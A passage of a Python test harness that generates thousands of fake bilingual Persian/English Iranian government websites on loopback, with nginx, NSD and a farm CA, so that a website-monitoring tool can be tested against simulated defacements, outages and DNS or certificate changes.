#!/usr/bin/env python3
"""The site farm: thousands of fake government websites on loopback.

Parapet's website watch (content, DNS, TLS, availability and posture of the
constituency's sites) is tested, benchmarked and demonstrated against this
farm rather than against the Internet. One `farm.py start` generates N sites
named s00001.gov.test, s00002.gov.test, ... (realistic bilingual
Persian/English government pages, deterministic for a given --seed) plus a few
deliberately broken `bad-*.gov.test` sites, and runs, as the current user and
with every file under --dir:

  * one nginx (worker_processes 2) serving every site from D/sites/$host over
    HTTP and HTTPS (a `*.gov.test` certificate signed by a farm CA that the
    farm creates with openssl; clients verify with D/tls/ca.pem);
  * one NSD (an authoritative-only DNS server) answering A, AAAA, MX, CAA
    and NS for every site, each site a zone of its own delegated from
    gov.test (dns-set rewrites a zone file and NSD reloads it on SIGHUP);
  * a small "keeper" (this script, `_keeper`) that is the parent of both,
    serves the slowloris site bad-slow.gov.test, and stops everything when
    asked, when --watch-pid dies or when --ttl expires.

Tests then change the world under the watch: deface a site in one of several
ways and restore it byte for byte, make a benign update, take a site down,
move its address or name servers. Usage (see also tests/farm/README.md):

  farm.py start   --dir D --sites N [--seed S] [--http-port P] [--https-port P]
                  [--dns-port P] [--slow-port P] [--watch-pid PID|parent]
                  [--ttl SECONDS] [--quiet]
  farm.py stop    --dir D
  farm.py urls    --dir D [--https] [--limit N] [--bad]
  farm.py deface  --dir D SITE --kind full|partial|script|iframe|seo|redirect|form
                  [--lang en|fa] [--by NAME] [--attacker HOST]
  farm.py restore --dir D SITE
  farm.py update  --dir D SITE
  farm.py thirdparty --dir D SITE --kind youtube|maps|gtag|vimeo|matomo|aparat|cloudflare
  farm.py churn   --dir D [--fraction 0.2] [--third 0.25] [--attack 0.01] [--round N]
  farm.py down    --dir D SITE [--mode 503|close|hang]
  farm.py up      --dir D SITE
  farm.py dns-set --dir D SITE A|AAAA IP[,IP...]|-      (NSD reload, no gap)
  farm.py dns-set --dir D SITE NS|MX|CAA VALUE[,VALUE...]|-
  farm.py cert-swap --dir D [--issuer NAME]   (another CA and key for *.gov.test)
  farm.py cert-restore --dir D
  farm.py status  --dir D
  farm.py dig     --dir D NAME [TYPE]

SITE is a full name (s00042.gov.test), a label (s00042, bad-loop) or a number
(42). Everything is also importable: start(), stop(), urls(), deface(),
restore(), update(), down(), up(), dns_set(), status(), dns_query(),
http_get(), load(). The Python standard library is all it needs, besides the
nginx, nsd and openssl binaries.
"""

import argparse
import ctypes
import datetime
import fcntl
import functools
import http.client
import json
import os
import random
import resource
import re
import selectors
import shutil
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time

NGINX = os.environ.get("FARM_NGINX", "/usr/sbin/nginx")
NSD = os.environ.get("FARM_NSD", "/usr/sbin/nsd")
OPENSSL = os.environ.get("FARM_OPENSSL", "openssl")
DOMAIN = "gov.test"
LOOPBACK = "127.0.0.1"
NAMESERVERS = ["ns1.gov.test", "ns2.gov.test"]
MAIL_HOST = "mail.gov.test"
BAD_SITES = ["bad-loop", "bad-huge", "bad-binary", "bad-slow", "bad-malformed"]
KINDS = ["full", "partial", "script", "iframe", "seo", "redirect", "form"]
DOWN_MODES = ["503", "close", "hang"]
FORMAT_VERSION = 1
HERE = os.path.abspath(__file__)


class FarmError(Exception):
    """A farm command failed; the message says why."""


# ---------------------------------------------------------------------------
# Content pools (real Persian, UTF-8)

ORGS = [
    ("Ministry of Energy", "وزارت نیرو"),
    ("Ministry of Roads and Urban Development", "وزارت راه و شهرسازی"),
    ("Ministry of Health and Medical Education", "وزارت بهداشت، درمان و آموزش پزشکی"),
    ("Ministry of Education", "وزارت آموزش و پرورش"),
    ("Ministry of Agriculture Jihad", "وزارت جهاد کشاورزی"),
    ("Ministry of Cooperatives, Labour and Social Welfare", "وزارت تعاون، کار و رفاه اجتماعی"),
    ("Ministry of Culture and Islamic Guidance", "وزارت فرهنگ و ارشاد اسلامی"),
    ("Ministry of Economic Affairs and Finance", "وزارت امور اقتصادی و دارایی"),
    ("Ministry of Industry, Mine and Trade", "وزارت صنعت، معدن و تجارت"),
    ("Ministry of Sport and Youth", "وزارت ورزش و جوانان"),
    ("Ministry of Science, Research and Technology", "وزارت علوم، تحقیقات و فناوری"),
    ("Ministry of Petroleum", "وزارت نفت"),
    ("Ministry of Communications and Information Technology", "وزارت ارتباطات و فناوری اطلاعات"),
    ("National Library and Archives", "سازمان اسناد و کتابخانه ملی"),
    ("Meteorological Organization", "سازمان هواشناسی"),
    ("Environmental Protection Organization", "سازمان حفاظت محیط زیست"),
    ("Statistical Centre", "مرکز آمار"),
    ("Social Security Organization", "سازمان تأمین اجتماعی"),
    ("Tax Administration", "سازمان امور مالیاتی"),
    ("Customs Administration", "گمرک"),
    ("Water and Wastewater Company", "شرکت آب و فاضلاب"),
    ("Power Distribution Company", "شرکت توزیع نیروی برق"),
    ("Cultural Heritage and Tourism Directorate", "اداره کل میراث فرهنگی، گردشگری و صنایع دستی"),
    ("Red Crescent Society", "جمعیت هلال احمر"),
    ("Municipality", "شهرداری"),
    ("University of Medical Sciences", "دانشگاه علوم پزشکی"),
    ("Governorate", "استانداری"),
    ("Registry of Deeds and Properties", "اداره کل ثبت اسناد و املاک"),
]

PROVINCES = [
    ("Tehran", "تهران"), ("Isfahan", "اصفهان"), ("Fars", "فارس"),
    ("Khorasan Razavi", "خراسان رضوی"), ("East Azerbaijan", "آذربایجان شرقی"),
    ("West Azerbaijan", "آذربایجان غربی"), ("Khuzestan", "خوزستان"),
    ("Mazandaran", "مازندران"), ("Gilan", "گیلان"), ("Kerman", "کرمان"),
    ("Yazd", "یزد"), ("Hamadan", "همدان"), ("Kermanshah", "کرمانشاه"),
    ("Qom", "قم"), ("Alborz", "البرز"), ("Hormozgan", "هرمزگان"),
    ("Sistan and Baluchestan", "سیستان و بلوچستان"), ("Golestan", "گلستان"),
    ("Ardabil", "اردبیل"), ("Zanjan", "زنجان"), ("Semnan", "سمنان"),
    ("Markazi", "مرکزی"), ("Lorestan", "لرستان"), ("Bushehr", "بوشهر"),
    ("Kurdistan", "کردستان"), ("Qazvin", "قزوین"), ("Ilam", "ایلام"),
    ("South Khorasan", "خراسان جنوبی"), ("North Khorasan", "خراسان شمالی"),
    ("Chaharmahal and Bakhtiari", "چهارمحال و بختیاری"),
    ("Kohgiluyeh and Boyer-Ahmad", "کهگیلویه و بویراحمد"),
]

NEWS_FA = [
    "برگزاری نشست هم‌اندیشی مدیران با حضور معاون وزیر",
    "آغاز ثبت‌نام مرحله {n} طرح حمایتی ویژه خانوارهای کم‌درآمد",
    "افتتاح {n} طرح عمرانی و خدماتی در استان {prov}",
    "اطلاعیه درباره تمدید مهلت ارسال مدارک متقاضیان",
    "برگزاری دوره آموزشی امنیت اطلاعات برای کارکنان",
    "دیدار مدیرکل با نمایندگان مردم استان {prov} در مجلس",
    "گزارش عملکرد {n} ماهه نخست سال ارائه شد",
    "رونمایی از سامانه جدید خدمات الکترونیک",
    "قطعی برنامه‌ریزی‌شده خدمات برخط در روز پنجشنبه",
    "انتصاب سرپرست جدید معاونت توسعه مدیریت و منابع",
    "برگزاری مراسم گرامیداشت هفته دولت",
    "امضای تفاهم‌نامه همکاری با دانشگاه‌های استان {prov}",
    "پاسخ به پرسش‌های پرتکرار درباره خدمات جدید",
    "بازدید میدانی مدیرکل از پروژه‌های در دست اجرا",
    "اعلام نتایج نهایی آزمون استخدامی سال {year}",
    "ارتقای سطح خدمات الکترونیک و کاهش مراجعات حضوری",
    "برگزاری جلسه شورای اداری استان {prov}",
    "تقدیر از کارکنان نمونه در مراسم روز ملی",
    "آغاز پویش ملی صرفه‌جویی در مصرف آب و برق",
    "اطلاعیه مهم درباره ساعات کاری ادارات در تابستان",
    "فراخوان مناقصه عمومی شماره {n}/{year}",
    "بهره‌برداری از {n} کیلومتر شبکه جدید در استان {prov}",
]

SUMMARY_FA = [
    "به گزارش روابط عمومی، در این نشست که با حضور مدیران و کارشناسان برگزار شد، آخرین وضعیت پروژه‌ها بررسی و بر تسریع در اجرای طرح‌ها تأکید شد.",
    "شهروندان می‌توانند برای دریافت اطلاعات بیشتر به سامانه خدمات الکترونیک مراجعه کنند یا با شماره تلفن ۱۱۱ تماس بگیرند.",
    "مدیرکل در این مراسم گفت: هدف ما ارائه خدمات شفاف، سریع و بدون نیاز به مراجعه حضوری است.",
    "بر اساس این گزارش، بیش از {n} درصد از برنامه‌های مصوب سال جاری محقق شده است.",
    "این دوره با هدف افزایش آگاهی کارکنان نسبت به تهدیدات سایبری و رعایت اصول امنیت اطلاعات برگزار شد.",
    "متقاضیان باید مدارک خود را تا پایان مهلت مقرر از طریق درگاه الکترونیک بارگذاری کنند.",
    "در این بازدید، روند اجرای طرح‌ها و مشکلات پیمانکاران بررسی و دستورات لازم برای رفع موانع صادر شد.",
    "بر پایه این تفاهم‌نامه، همکاری‌های پژوهشی و آموزشی دو طرف در سال‌های آینده گسترش می‌یابد.",
]

NEWS_EN = [
    "Director General meets provincial representatives on the {prov} development plan",
    "Registration opens for phase {n} of the household support programme",
    "{n} public service projects inaugurated in {prov} Province",
    "Notice: deadline for document submission extended",
    "Information security training held for staff",
    "New e-services portal launched",
    "Performance report for the first {n} months presented",
    "Scheduled maintenance of online services on Thursday",
    "Memorandum of understanding signed with universities of {prov}",
    "Final results of the {year} recruitment examination announced",
    "Summer working hours of government offices announced",
    "National water and electricity saving campaign begins",
    "Public tender no. {n}/{year} announced",
]

SUMMARY_EN = [
    "According to the public relations office, managers and experts reviewed the progress of current projects and agreed to speed up their delivery.",
    "Citizens can find more information on the e-services portal or by calling 111.",
    "The Director General said the goal is transparent, fast services without the need to visit an office in person.",
    "According to the report, more than {n} percent of this year's approved programmes have been delivered.",
    "The course raised staff awareness of cyber threats and good information security practice.",
    "Applicants must upload their documents through the e-government gateway before the deadline.",
]

BANNERS = [
    ("سامانه جامع خدمات الکترونیک", "One-stop e-services portal"),
    ("هفته دولت گرامی باد", "Government Week"),
    ("پویش ملی صرفه‌جویی در مصرف انرژی", "National energy saving campaign"),
    ("ثبت‌نام طرح‌های حمایتی آغاز شد", "Support programme registration is open"),
]

WELL_KNOWN = [
    ("https://www.president.ir/", "پایگاه اطلاع‌رسانی ریاست جمهوری"),
    ("https://www.irna.ir/", "خبرگزاری جمهوری اسلامی"),
    ("https://www.aparat.com/", "آپارات"),
    ("https://eitaa.com/", "ایتا"),
    ("https://www.w3.org/WAI/", "W3C Web Accessibility Initiative"),
    ("https://my.gov.ir/", "درگاه ملی خدمات دولت هوشمند"),
    ("https://www.google.com/maps", "Google Maps"),
    ("https://en.wikipedia.org/wiki/Iran", "Wikipedia"),
]

GENERATORS = [
    None, None, None, None, None, None, None,
    "Joomla! 1.5 - Open Source Content Management",
    "Joomla! - Open Source Content Management",
    "WordPress 4.9.8",
    "WordPress 6.4.3",
    "Drupal 7 (https://www.drupal.org)",
    "DotNetNuke 7.4.2",
]

POWERED_BY = {"1": "PHP/5.6.40", "2": "PHP/7.4.33", "3": "ASP.NET", "4": "PHP/8.2.7"}

DAYS = [datetime.timedelta(days=k) for k in range(1, 7)]
FA_DIGITS = str.maketrans("0123456789", "۰۱۲۳۴۵۶۷۸۹")


def fa_num(x):
    return str(x).translate(FA_DIGITS)


def jalali(d):
    """Gregorian date -> (year, month, day) of the Solar Hijri calendar."""
    gy, gm, gd = d.year, d.month, d.day
    g_d_m = [0, 31, 59, 90, 120, 151, 181, 212, 243, 273, 304, 334]
    gy2 = gy + 1 if gm > 2 else gy
    days = (355666 + 365 * gy + (gy2 + 3) // 4 - (gy2 + 99) // 100
            + (gy2 + 399) // 400 + gd + g_d_m[gm - 1])
    jy = -1595 + 33 * (days // 12053)
    days %= 12053
    jy += 4 * (days // 1461)
    days %= 1461
    if days > 365:
        jy += (days - 1) // 365
        days = (days - 1) % 365
    if days < 186:
        return jy, 1 + days // 31, 1 + days % 31
    return jy, 7 + (days - 186) // 30, 1 + (days - 186) % 30


def fa_date(d):
    y, m, dd = jalali(d)
    return fa_num("%04d/%02d/%02d" % (y, m, dd))


def html_escape(s):
    return (s.replace("&", "&amp;").replace("<", "&lt;")
            .replace(">", "&gt;").replace('"', "&quot;"))


# ---------------------------------------------------------------------------
# Site model: everything about site i follows from (seed, i)

def site_name(i):
    return "s%05d.%s" % (i, DOMAIN)


def bad_name(label):
    return "%s.%s" % (label, DOMAIN)


def org_of(seed, i):
    r = random.Random(seed * 7919 + i * 104729 + 17)
    org = ORGS[(i - 1) % len(ORGS)] if i <= len(ORGS) else r.choice(ORGS)
    prov = r.choice(PROVINCES)
    if i <= len(ORGS):
        return org[0], org[1], prov
    return ("%s — %s Province" % (org[0], prov[0]),
            "%s استان %s" % (org[1], prov[1]), prov)


def profile(seed, i):
    """Deterministic per-site parameters (posture, theme, language, size)."""
    r = random.Random(seed * 1000003 + i)
    p = {}
    p["theme"] = r.randrange(3)
    p["lang"] = "fa" if r.random() < 0.7 else "en"
    p["size"] = r.randint(5600, 29000)
    p["subpages"] = ["news.html", "about.html"] + (["contact.html"] if r.random() < 0.6 else [])
    hdr = ""
    x = r.random()
    if x < 0.45:
        hdr += "H"                      # HSTS, one year, includeSubDomains
    elif x < 0.6:
        hdr += "h"                      # HSTS, short max-age
    x = r.random()
    if x < 0.25:
        hdr += "C"                      # strict CSP
    elif x < 0.4:
        hdr += "c"                      # CSP with unsafe-inline / unsafe-eval
    x = r.random()
    if x < 0.4:
        hdr += "F"                      # X-Frame-Options SAMEORIGIN
    elif x < 0.55:
        hdr += "f"                      # X-Frame-Options DENY
    if r.random() < 0.6:
        hdr += "N"                      # X-Content-Type-Options nosniff
    if r.random() < 0.35:
        hdr += "R"                      # Referrer-Policy
    x = r.random()
    if x < 0.25:
        hdr += str(r.randint(1, 4))     # X-Powered-By variant
    p["headers"] = hdr
    p["server_version"] = r.random() < 0.3
    x = r.random()
    p["security_txt"] = None if x < 0.15 else ("expired" if x < 0.22 else "valid")
    p["generator"] = r.choice(GENERATORS)
    p["caa"] = r.choice(["letsencrypt.org", "letsencrypt.org", "digicert.com",
                         "sectigo.com", "ca.gov.test"])
    p["banner"] = r.randrange(len(BANNERS))
    p["visits"] = r.randint(10000, 9000000)
    p["rng"] = r
    return p


def posture_of(p, nginx_version):
    h = p["headers"]
    powered = next((POWERED_BY[c] for c in h if c in POWERED_BY), None)
    return {
        "hsts": ("max-age=31536000; includeSubDomains" if "H" in h
                 else "max-age=86400" if "h" in h else None),
        "csp": "strict" if "C" in h else "weak" if "c" in h else None,
        "x_frame_options": "SAMEORIGIN" if "F" in h else "DENY" if "f" in h else None,
        "x_content_type_options": "N" in h,
        "referrer_policy": "R" in h,
        "x_powered_by": powered,
        "server": "nginx/" + nginx_version if p["server_version"] else "nginx",
        "security_txt": p["security_txt"],
        "generator": p["generator"],
    }


# ---------------------------------------------------------------------------
# Pages

NAV_FA = [("/", "صفحه اصلی"), ("/about.html", "درباره ما"), ("/news.html", "اخبار"),
          ("https://my.gov.ir/", "خدمات الکترونیک"), ("/contact.html", "تماس با ما")]
NAV_EN = [("/", "Home"), ("/about.html", "About us"), ("/news.html", "News"),
          ("https://my.gov.ir/", "E-services"), ("/contact.html", "Contact us")]

THEME_WRAP = [
    # (body open, main open, main close, body close) per theme
    ('<div id="wrapper" class="portal">', '<div id="content" class="row">',
     '</div>', '</div>'),
    ('<div class="page container">', '<main id="main" class="grid">',
     '</main>', '</div>'),
    ('<table id="layout" width="100%" cellpadding="0" cellspacing="0"><tr><td>',
     '<div id="maincol">', '</div>', '</td></tr></table>'),
]


@functools.lru_cache(maxsize=4096)
def _dates(d):
    return fa_date(d), d.strftime("%d %B %Y"), d.isoformat()


def news_item(r, lang, d, k, prov, year):
    rnd = r.random
    n = 2 + int(rnd() * 119)
    fa_d, en_d, iso = _dates(d)
    if lang == "fa" and rnd() < 0.85:
        head = NEWS_FA[int(rnd() * len(NEWS_FA))]
        summ = SUMMARY_FA[int(rnd() * len(SUMMARY_FA))]
        if "{" in head:
            head = head.format(n=fa_num(n), prov=prov[1], year=fa_num(year))
        if "{" in summ:
            summ = summ.format(n=fa_num(40 + int(rnd() * 58)))
        shown = fa_d
    else:
        head = NEWS_EN[int(rnd() * len(NEWS_EN))]
        summ = SUMMARY_EN[int(rnd() * len(SUMMARY_EN))]
        if "{" in head:
            head = head.format(n=n, prov=prov[0], year=d.year)
        if "{" in summ:
            summ = summ.format(n=40 + int(rnd() * 58))
        shown = en_d
    return ('<li class="news-item"><time datetime="%s">%s</time> '
            '<a href="/news.html#n%d">%s</a><p class="summary">%s</p></li>\n'
            % (iso, shown, k, head, summ))


def page_head(name, p, title, org, extra=""):
    lang = p["lang"]
    dirattr = ' dir="rtl"' if lang == "fa" else ""
    gen = ('<meta name="generator" content="%s">\n' % p["generator"]) if p["generator"] else ""
    return (
        '<!DOCTYPE html>\n<html lang="%s"%s>\n<head>\n<meta charset="utf-8">\n'
        '<meta name="viewport" content="width=device-width, initial-scale=1">\n'
        '<title>%s</title>\n'
        '<meta name="description" content="%s - %s">\n'
        '<meta name="keywords" content="%s, %s, خدمات الکترونیک, e-government">\n%s'
        '<link rel="stylesheet" href="/static/style.css?v=%d">\n'
        '<link rel="icon" href="/static/logo.svg" type="image/svg+xml">\n'
        '<link rel="canonical" href="https://%s/">\n'
        '<script src="/static/app.js" defer></script>\n%s</head>\n'
        % (lang, dirattr, title, org[1], org[0], org[1], org[0], gen,
           p["theme"] + 3, name, extra))


def page_header(p, org):
    nav = NAV_FA if p["lang"] == "fa" else NAV_EN
    items = "".join('<li><a href="%s">%s</a></li>' % x for x in nav
                    if x[0] != "/contact.html" or "contact.html" in p["subpages"])
    other = '<li class="lang"><a href="/?lang=%s">%s</a></li>' % (
        ("en", "English") if p["lang"] == "fa" else ("fa", "فارسی"))
    return (
        '<header id="top" class="site-header">\n<div class="logo"><a href="/">'
        '<img src="/static/logo.svg" alt="%s" width="64" height="64"></a></div>\n'
        '<div class="titles"><h1>%s</h1><p class="en-name">%s</p></div>\n'
        '<form class="search" action="/search" method="get"><input type="search" name="q" '
        'placeholder="جستجو / Search"><button type="submit">&#128269;</button></form>\n'
        '</header>\n<nav id="menu" class="main-nav"><ul>%s%s</ul></nav>\n'
        % (org[1], org[1], org[0], items, other))


def page_footer(name, p, org, year):
    prov = org[2]
    return (
        '<footer id="footer">\n<div class="address">نشانی: استان %s، خیابان آزادی، '
        'ساختمان شماره %s &middot; Address: %s, Azadi St.</div>\n'
        '<div class="phone">تلفن: %s &middot; Tel: +98 21 %d</div>\n'
        '<div class="visits">تعداد بازدید: <span id="visits">%s</span></div>\n'
        '<div class="copy">&copy; %d %s &middot; کلیه حقوق برای %s محفوظ است.</div>\n'
        '<div class="mail"><a href="mailto:info@%s">info@%s</a></div>\n</footer>\n'
        % (prov[1], fa_num(p["rng"].randint(2, 90)), prov[0],
           fa_num("021-%d" % (80000000 + p["visits"] % 9999999)),
           80000000 + p["visits"] % 9999999, fa_num(p["visits"]), year, org[0],
           org[1], name, name))


def gen_index(seed, i, name, p, n_sites, base):
    r = p["rng"]
    org3 = org_of(seed, i)
    org = (org3[0], org3[1])
    prov = org3[2]
    wrap = THEME_WRAP[p["theme"]]
    year = base.year
    jy = jalali(base)[0]
    title = "%s | %s" % (org[1], org[0]) if p["lang"] == "fa" else "%s | %s" % (org[0], org[1])
    b_fa, b_en = BANNERS[p["banner"]]
    head = [page_head(name, p, title, org),
            '<body class="theme-%d home">\n%s\n' % (p["theme"], wrap[0]),
            page_header(p, org3),
            '<div class="banner banner-%d" id="banner" data-banner="%d">'
            '<span class="banner-caption">%s &middot; %s</span></div>\n'
            % (p["banner"], p["banner"], b_fa, b_en),
            wrap[1] + "\n",
            '<section class="news" id="news"><h2>%s</h2>\n<ul class="news-list">\n'
            '<!-- news:begin -->\n' % ("آخرین اخبار" if p["lang"] == "fa" else "Latest news")]
    # Off-site links: other *.gov.test sites and a few well-known hosts.
    links = []
    others = [j for j in {r.randint(1, max(1, n_sites)) for _ in range(r.randint(3, 5))} if j != i]
    for j in sorted(others):
        oj = org_of(seed, j)
        links.append('<li><a href="https://%s/">%s</a></li>' % (site_name(j), oj[1]))
    for url, label in r.sample(WELL_KNOWN, r.randint(2, 4)):
        links.append('<li><a href="%s" target="_blank" rel="noopener">%s</a></li>' % (url, label))
    ann = "".join(
        '<li><a href="/news.html#a%d">%s</a></li>' % (k, x) for k, x in enumerate([
            "فراخوان مناقصه عمومی شماره %s/%s" % (fa_num(r.randint(10, 99)), fa_num(jy)),
            "Call for tenders no. %d/%d" % (r.randint(10, 99), year),
            "اطلاعیه ساعات کاری جدید"]))
    tail = [
        '<!-- news:end -->\n</ul>\n<p class="more"><a href="/news.html">%s</a></p></section>\n'
        % ("آرشیو اخبار" if p["lang"] == "fa" else "News archive"),
        '<section class="announcements"><h2>اطلاعیه‌ها / Announcements</h2><ul>%s</ul></section>\n' % ann,
        '<aside class="login-box"><h3>ورود کارکنان / Staff login</h3>\n'
        '<form id="login-form" action="/login" method="post">\n'
        '<label>نام کاربری <input type="text" name="username" autocomplete="username"></label>\n'
        '<label>گذرواژه <input type="password" name="password" autocomplete="current-password"></label>\n'
        '<button type="submit">ورود</button>\n</form></aside>\n',
        '<section class="links"><h3>پیوندها / Links</h3><ul>%s</ul></section>\n' % "".join(links),
        wrap[2] + "\n",
        page_footer(name, p, org3, year),
        wrap[3] + "\n",
        '<script>window.SITE={host:"%s",lang:"%s"};</script>\n</body>\n</html>\n'
        % (name, p["lang"]),
    ]
    size = sum(len(x.encode()) for x in head) + sum(len(x.encode()) for x in tail)
    items = []
    d = base
    k = 0
    while True:
        item = news_item(r, p["lang"], d, k, prov, year)
        n = len(item.encode())
        if size + n > p["size"] and k >= 3:
            break
        items.append(item)
        size += n
        k += 1
        d -= DAYS[int(r.random() * 6)]
    return "".join(head + items + tail), items


def gen_subpage(seed, i, name, p, page, news_items, year):
    org3 = org_of(seed, i)
    org = (org3[0], org3[1])
    wrap = THEME_WRAP[p["theme"]]
    r = p["rng"]
    if page == "about.html":
        title, h = "درباره ما", "About us"
        body = "".join("<p>%s</p>\n<p>%s</p>\n" % (r.choice(SUMMARY_FA).format(n=fa_num(r.randint(40, 97))),
                                                   r.choice(SUMMARY_EN).format(n=r.randint(40, 97)))
                       for _ in range(r.randint(2, 6)))
        body = ('<p>%s در سال %s تأسیس شد و مأموریت آن ارائه خدمات عمومی به شهروندان است.</p>\n'
                '<p>The %s serves the citizens of %s Province.</p>\n' % (org[1], fa_num(r.randint(1300, 1390)),
                                                                       org[0], org3[2][0])) + body
    elif page == "contact.html":
        title, h = "تماس با ما", "Contact us"
        body = ('<p>نشانی: استان %s، خیابان آزادی</p>\n<p>Email: <a href="mailto:info@%s">info@%s</a></p>\n'
                '<form id="contact-form" action="/contact" method="post">\n'
                '<label>نام <input type="text" name="name"></label>\n'
                '<label>ایمیل <input type="email" name="email"></label>\n'
                '<label>پیام <textarea name="message"></textarea></label>\n'
                '<button type="submit">ارسال</button>\n</form>\n' % (org3[2][1], name, name))
    else:
        title, h = "آرشیو اخبار", "News archive"
        body = ('<ul class="news-list">\n<!-- news:begin -->\n%s<!-- news:end -->\n</ul>\n'
                % "".join(news_items[:15]))
    return "".join([page_head(name, p, "%s | %s" % (title, org[1]), org),
                    '<body class="theme-%d page">\n%s\n' % (p["theme"], wrap[0]),
                    page_header(p, org3), wrap[1], "\n<article><h2>%s / %s</h2>\n%s</article>\n" % (title, h, body),
                    wrap[2], "\n", page_footer(name, p, org3, year), wrap[3], "\n</body>\n</html>\n"])


APP_JS = """/* %(name)s - site script v%(v)d */
(function () {
  'use strict';
  var SITE = '%(name)s';
  function ready(fn) {
    if (document.readyState !== 'loading') fn();
    else document.addEventListener('DOMContentLoaded', fn);
  }
  function toggleMenu() {
    var nav = document.getElementById('menu');
    if (nav) nav.classList.toggle('open');
  }
  function rotateBanner() {
    var b = document.getElementById('banner');
    if (!b) return;
    var n = parseInt(b.getAttribute('data-banner') || '0', 10);
    b.className = 'banner banner-' + ((n + 1) %% 4);
  }
  function clock() {
    var el = document.getElementById('clock');
    if (!el) return;
    var d = new Date();
    el.textContent = d.toLocaleDateString('fa-IR') + ' ' + d.toLocaleTimeString('fa-IR');
  }
  ready(function () {
    var btn = document.querySelector('.menu-toggle');
    if (btn) btn.addEventListener('click', toggleMenu);
    setInterval(rotateBanner, 8000);
    setInterval(clock, 1000);
    clock();
    if (window.console) console.log('site ' + SITE + ' ready');
  });
})();
"""

STYLE_CSS = [
    """/* portal theme */
body{margin:0;font-family:Vazirmatn,Tahoma,Arial,sans-serif;background:#f4f6f8;color:#222}
#wrapper{max-width:1180px;margin:0 auto;background:#fff}
.site-header{display:flex;align-items:center;gap:16px;padding:12px 24px;background:#0b4f8a;color:#fff}
.site-header h1{font-size:1.4rem;margin:0}.en-name{margin:0;font-size:.85rem;opacity:.8}
.main-nav ul{display:flex;list-style:none;margin:0;padding:0;background:#093d6b}
.main-nav a{display:block;padding:10px 16px;color:#fff;text-decoration:none}
.main-nav a:hover{background:#0d67b3}
.banner{padding:40px 24px;color:#fff;font-size:1.3rem;background:linear-gradient(90deg,#0b4f8a,#1c8ad6)}
.banner-1{background:linear-gradient(90deg,#7a1f1f,#d64b1c)}.banner-2{background:linear-gradient(90deg,#1f7a3a,#6cc04a)}
.banner-3{background:linear-gradient(90deg,#4a1f7a,#a04ad6)}
#content{display:grid;grid-template-columns:2fr 1fr;gap:24px;padding:24px}
.news-list{list-style:none;padding:0}.news-item{border-bottom:1px solid #e3e7eb;padding:10px 0}
.news-item time{color:#777;font-size:.85rem;margin-inline-end:8px}
.login-box{background:#f0f3f6;padding:16px;border-radius:6px}
.login-box label{display:block;margin:8px 0}
#footer{background:#222;color:#ccc;padding:24px;font-size:.85rem}#footer a{color:#9cf}
""",
    """/* modern theme */
:root{--brand:#00695c;--ink:#1b1b1b;--bg:#fafafa}
body{margin:0;font:15px/1.7 Vazirmatn,system-ui,sans-serif;color:var(--ink);background:var(--bg)}
.page{max-width:1280px;margin:auto}
.site-header{display:grid;grid-template-columns:auto 1fr auto;align-items:center;padding:16px 32px;border-bottom:4px solid var(--brand)}
.site-header h1{margin:0;font-size:1.5rem;color:var(--brand)}
.main-nav ul{display:flex;flex-wrap:wrap;gap:4px;list-style:none;padding:0 32px}
.main-nav a{padding:8px 14px;border-radius:18px;color:var(--brand);text-decoration:none}
.main-nav a:hover{background:var(--brand);color:#fff}
.banner{margin:16px 32px;padding:56px 32px;border-radius:12px;color:#fff;background:var(--brand)}
.banner-1{background:#b23c17}.banner-2{background:#2e7d32}.banner-3{background:#4527a0}
.grid{display:grid;grid-template-columns:repeat(auto-fit,minmax(320px,1fr));gap:24px;padding:0 32px}
.news-item{background:#fff;margin:12px 0;padding:12px 16px;border-radius:8px;box-shadow:0 1px 3px rgba(0,0,0,.08)}
.news-item time{display:block;color:#888;font-size:.8rem}
.login-box{border:1px solid #ddd;border-radius:8px;padding:16px}
#footer{margin-top:32px;padding:32px;background:#263238;color:#eceff1}
""",
    """/* legacy theme */
body{margin:0;font-family:Tahoma,Verdana;font-size:12px;background:#c9d6e3}
#layout{background:#fff;width:980px;margin:0 auto;border:1px solid #8aa}
.site-header{background:#336699;color:#fff;padding:8px;overflow:hidden}
.site-header .logo{float:right}.site-header h1{font-size:18px}
.main-nav ul{margin:0;padding:4px;background:#ffcc66;list-style:none}
.main-nav li{display:inline;padding:0 8px}.main-nav a{color:#003;font-weight:bold}
.banner{height:90px;background:#99bbdd;font-size:16px;padding:8px;color:#003}
.banner-1{background:#ddbb99}.banner-2{background:#bbdd99}.banner-3{background:#dd99bb}
#maincol{padding:8px}.news-item{border-bottom:1px dotted #999;margin-bottom:6px}
.news-item time{color:#c00}.login-box{border:1px solid #999;padding:6px;background:#eee}
#footer{background:#336699;color:#fff;padding:6px;text-align:center}
""",
]

LOGO_SVG = """<svg xmlns="http://www.w3.org/2000/svg" width="64" height="64" viewBox="0 0 64 64">
<circle cx="32" cy="32" r="30" fill="%s"/><text x="32" y="40" font-size="20" text-anchor="middle" fill="#fff" font-family="sans-serif">%s</text>
</svg>
"""


def security_txt(name, kind):
    expires = "2031-03-20T20:29:59.000Z" if kind == "valid" else "2022-03-20T20:29:59.000Z"
    return ("# Security contact of %s\n"
            "Contact: mailto:security@%s\n"
            "Contact: https://cert.gov.test/report\n"
            "Expires: %s\n"
            "Preferred-Languages: fa, en\n"
            "Canonical: https://%s/.well-known/security.txt\n"
            "Policy: https://%s/security-policy.html\n" % (name, name, expires, name, name))


def write_site(sites_dir, seed, i, n_sites, base):
    name = site_name(i)
    p = profile(seed, i)
    root = os.path.join(sites_dir, name)
    os.mkdir(root)
    os.mkdir(root + "/static")
    index, items = gen_index(seed, i, name, p, n_sites, base)
    with open(root + "/index.html", "wb") as f:
        f.write(index.encode())
    for page in p["subpages"]:
        with open(root + "/" + page, "wb") as f:
            f.write(gen_subpage(seed, i, name, p, page, items, base.year).encode())
    with open(root + "/static/app.js", "wb") as f:
        f.write((APP_JS % {"name": name, "v": 1 + i % 7}).encode())
    # Files that are the same on many sites are hard links to one copy in
    # D/shared (fewer pages to write; the farm only ever replaces files).
    shared = os.path.join(os.path.dirname(sites_dir), "shared")
    for src, dst in (("style-%d.css" % p["theme"], "static/style.css"),
                     ("logo-%d.svg" % p["theme"], "static/logo.svg"),
                     ("robots.txt", "robots.txt")):
        try:
            os.link(os.path.join(shared, src), os.path.join(root, dst))
        except OSError:
            shutil.copyfile(os.path.join(shared, src), os.path.join(root, dst))
    if p["security_txt"]:
        os.mkdir(root + "/.well-known")
        with open(root + "/.well-known/security.txt", "wb") as f:
            f.write(security_txt(name, p["security_txt"]).encode())
    return p


def write_shared(d):
    sh = os.path.join(d, "shared")
